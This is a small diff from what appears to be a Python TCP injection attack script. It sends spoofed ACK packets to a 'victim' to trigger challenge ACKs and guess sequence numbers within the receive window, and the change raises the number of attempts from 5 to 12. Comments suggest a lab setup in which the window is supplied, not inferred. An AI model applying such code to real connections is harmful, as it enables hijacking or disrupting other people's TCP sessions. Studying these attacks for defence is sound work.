@@ -43,7 +43,7 @@ def pause(number):
 # What the victim expects and what it has sent, which its challenge tells the peer. The attacker does not
 # see it; here it is asked for, so that every second guess hits the window.
 def challenge(head, sport, dport):
-    for _ in range(5):
+    for _ in range(12):
         vary(template(head / TCP(sport=sport, dport=dport, flags='A')), guess(), guess())
         end = time.monotonic() + 1.1
         while (left := end - time.monotonic()) > 0 and select.select([link.socket], [], [], left)[0]:
